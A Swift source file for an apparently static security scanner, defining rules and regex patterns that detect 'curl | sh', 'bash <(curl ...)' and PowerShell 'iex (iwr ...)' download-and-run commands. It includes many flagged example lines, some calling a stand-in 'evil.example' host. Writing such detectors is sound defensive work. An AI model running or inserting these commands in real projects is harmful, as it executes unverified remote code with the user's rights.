/// Code fetched from the network and run unchecked: `curl … | sh`, `wget -O- … | bash`, `bash -c "$(curl …)"`,
/// PowerShell's `iex (iwr …)`. In scripts, Dockerfiles, CI files and package scripts (where installers do it, high),
/// and inside strings that application code hands to a shell (where nothing justifies it, critical).
enum DownloadRules {
    /// Shell forms: a download piped into a shell or interpreter, or substituted into one.
    static let shellPatterns = [
        #"\b(?:curl|wget)\b(?:[^|;&\n]|&(?!&))*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+(?:\w+=\S*\s+)*)?(?:/usr)?(?:/local)?(?:/bin/)?(?:(?:ba|z|da|k|fi|c|tc)?sh|pwsh|powershell)\b"#,
        #"\b(?:curl|wget)\b(?:[^|;&\n]|&(?!&))*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:python[0-9.]*|perl|ruby|node|php)(?=\s*(?:-\s*)?(?:$|[;&|)"'`]))"#,
        #"\b(?:(?:ba|z|da|k)?sh\s+(?:-\w+\s+)*(?:-c\s+)?|eval\s+)["']?\$\(\s*(?:curl|wget)\b"#,
        #"(?:\b(?:ba|z|da|k)?sh|\bsource|(?:^|[;&|]\s*)\.)\s+(?:-\w+\s+)*<\(\s*(?:curl|wget)\b"#,
    ]

    /// PowerShell forms: a download handed to `Invoke-Expression`.
    static let powerShellPatterns = [
        #"(?i)\b(?:iex|invoke-expression)\b[\s(]*(?:\[[\w.]+\]::\w+\(\s*)?\(*\s*(?:iwr|irm|curl|wget|invoke-webrequest|invoke-restmethod|new-object\s+(?:system\.)?net\.webclient)\b"#,
        #"(?i)\b(?:iex|invoke-expression)\b.*\.downloadstring\s*\("#,
        #"(?i)(?:\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|curl|wget)\b|\.downloadstring\s*\()[^|\n]*\|\s*(?:iex|invoke-expression)\b"#,
    ]

    static let keywords = ["curl", "wget", "iex", "invoke-expression", "downloadstring"]

    /// Prose that shows an installer's command is not running it: documents by extension, and the plain-text
    /// documents named without one (`INSTALL`, `README`, `CHANGELOG`), which read as text like Makefiles do.
    static let documentation =
        SecurityRules.documentation + [
            "README", "README.*", "INSTALL", "INSTALL.*", "CHANGELOG*", "CHANGES*", "NEWS", "HISTORY*", "docs/", "doc/",
        ]

    static let patterns: [Rule.Pattern] = (shellPatterns + powerShellPatterns).map { .init(.text, $0) }

    static let recommendation =
        "Download to a file, check a pinned checksum or signature (`sha256sum -c`, `Get-FileHash`), then run that file; or install from a package manager."

    /// Scripts, Dockerfiles, CI and package files (PowerShell, Makefiles and Jenkinsfiles read as plain text).
    static let pipeDownloadToShell = Rule(
        id: "security.pipe-download-to-shell", category: .security, severity: .high,
        languages: [.shell, .dockerfile, .yaml, .json, .ini, .text], excludedPaths: documentation,
        keywords: keywords, patterns: patterns,
        excludes: [
            // Printing the command, or describing it, is not running it.
            .init(.code, #"^\s*(?:-\s+)?(?:run:\s*)?(?:echo|printf|Write-Host|Write-Output)\b"#),
            .init(.code, #"^\s*-?\s*["']?(?:name|description|title|summary|help|usage)["']?\s*:"#),
            .init(.raw, #"^\s*(?:#|//|REM\b|::)"#, languages: [.text]),
        ],
        message: "Script downloaded and run without checking it",
        recommendation: recommendation,
        cwe: "CWE-494",
        examples: [
            .init("install.sh", "curl -fsSL https://get.example.com | sh", flagged: true),
            .init("Dockerfile", "RUN wget -qO- https://example.com/setup.sh | sudo bash", flagged: true),
            .init("Dockerfile", "RUN curl -sSL https://get.example.com/setup | sudo -E bash -", flagged: true),
            .init("install.sh", "wget -O - https://get.example.com/install.sh | sh -s -- --yes", flagged: true),
            .init("install.sh", #"/bin/bash -c "$(curl -fsSL https://get.example.com/install.sh)""#, flagged: true),
            .init("install.sh", "bash <(curl -s https://get.example.com/i.sh)", flagged: true),
            .init("install.sh", "curl -s https://get.example.com/get.py | python3 -", flagged: true),
            .init(".github/workflows/ci.yml", "      - run: curl -fsSL https://get.example.com | bash", flagged: true),
            .init(
                ".gitlab-ci.yml", "  script:\n    - wget -qO- https://get.example.com/install.sh | sh", flagged: true),
            .init("package.json", #"    "postinstall": "curl -s https://get.example.com/x.sh | sh","#, flagged: true),
            .init("install.ps1", "iex (iwr https://get.example.com/install.ps1)", flagged: true),
            .init(
                "install.ps1", "Invoke-Expression (Invoke-WebRequest -Uri https://get.example.com/i.ps1).Content",
                flagged: true),
            .init(
                "install.ps1", "iex (New-Object Net.WebClient).DownloadString('https://get.example.com/i.ps1')",
                flagged: true),
            .init("install.ps1", "irm https://get.example.com/install.ps1 | iex", flagged: true),
            .init(
                "install.sh", "curl -fsSLo setup.sh https://get.example.com && sha256sum -c setup.sha256",
                flagged: false),
            .init("install.sh", "# never: curl https://get.example.com | sh", flagged: false),
            .init("fetch.sh", "curl -s https://api.example.com/items | jq '.[0]'", flagged: false),
            .init("fetch.sh", "wget -qO- https://api.example.com/v1/status | grep ok", flagged: false),
            .init("fetch.sh", "curl -s https://example.com/data.json | shasum -a 256", flagged: false),
            .init("fetch.sh", "curl -s https://example.com/data.json | python3 -m json.tool", flagged: false),
            .init("install.sh", #"echo "Install with: curl -fsSL https://get.example.com | sh""#, flagged: false),
            .init("README.md", "    curl -fsSL https://get.example.com | sh", flagged: false),
            .init("INSTALL", "    curl -fsSL https://get.example.com | sh", flagged: false),
            .init("Makefile", "install:\n\tcurl -fsSL https://get.example.com | sh", flagged: true),
            .init(".github/workflows/ci.yml", "      # curl -fsSL https://get.example.com | bash", flagged: false),
            .init(
                "install.ps1", "Invoke-WebRequest https://get.example.com/tool.zip -OutFile tool.zip", flagged: false),
            .init("install.ps1", "# iex (iwr https://get.example.com/install.ps1)", flagged: false),
        ])

    /// Where application code starts a process (or a shell) on the same line.
    static let processStart =
        #"\b(?:os\.(?:system|popen\d?|exec\w*|spawn\w*)|subprocess\.\w+|pty\.spawn|commands\.getoutput|child_process\.\w+|execa|spawn(?:Sync)?|exec(?:Sync|File|FileSync|v|vp|l|lp|le|ve)?|system|popen|shell_exec|passthru|proc_open|IO\.popen|Open3\.\w+|Command(?:Context)?|getRuntime\(\)\s*\.\s*exec|ProcessBuilder|Process\.Start|ProcessStartInfo|Process|NSTask|run|call|check_output|check_call|Popen|getoutput)\s*\(|%x[({\[]|\bexecutableURL\b|\blaunchPath\b|\.arguments\s*="#

    /// Application code that hands a download-and-run command to a shell.
    static let downloadAndExecute = Rule(
        id: "security.download-and-execute", category: .security, severity: .critical,
        languages: [.python, .javascript, .typescript, .ruby, .php, .go, .java, .kotlin, .csharp, .swift, .c, .cpp],
        keywords: keywords, patterns: patterns,
        requires: [.init(.code, processStart)],
        message: "Code downloads a script and runs it through a shell without checking it",
        recommendation:
            "Do not fetch and run code at run time: whatever the server, or anyone on the way, sends runs with the program's rights. Ship the script with the program, or "
            + recommendation.prefix(1).lowercased() + recommendation.dropFirst()
            + " Run programs with an argument list, never through a shell.",
        cwe: "CWE-494",
        examples: [
            .init("tool.py", "os.system('curl http://evil.example/x | sh')", flagged: true),
            .init(
                "tool.py", #"subprocess.run("wget -qO- https://get.example.com/setup.sh | sudo bash", shell=True)"#,
                flagged: true),
            .init("install.js", #"execSync("curl -fsSL https://get.example.com | bash");"#, flagged: true),
            .init("run.go", #"exec.Command("sh", "-c", "curl -s https://get.example.com/i.sh | sh")"#, flagged: true),
            .init(
                "Setup.java", #"new ProcessBuilder("bash", "-c", "curl https://get.example.com | bash").start();"#,
                flagged: true),
            .init(
                "Setup.cs", #"Process.Start("powershell", "-Command iex (iwr https://get.example.com/a.ps1)");"#,
                flagged: true),
            .init(
                "tool.py",
                #"subprocess.run(["powershell", "-c", "iex (New-Object Net.WebClient).DownloadString('https://get.example.com/a.ps1')"])"#,
                flagged: true),
            .init("setup.rb", #"system("curl -fsSL https://get.example.com | sh")"#, flagged: true),
            .init("tool.py", #"print("Install with: curl -fsSL https://get.example.com | sh")"#, flagged: false),
            .init("tool.py", #"os.system("curl -s https://api.example.com/v1/items | jq .name")"#, flagged: false),
            .init("tool.py", #"subprocess.run(["curl", "-fsSLo", "setup.sh", URL], check=True)"#, flagged: false),
            .init("tool.py", "# os.system('curl http://evil.example/x | sh')", flagged: false),
            .init(
                "setup.rb", #"system("curl -o setup.sh https://get.example.com && sha256sum -c setup.sh.sha256")"#,
                flagged: false),
        ])

    static let all = [downloadAndExecute]
}
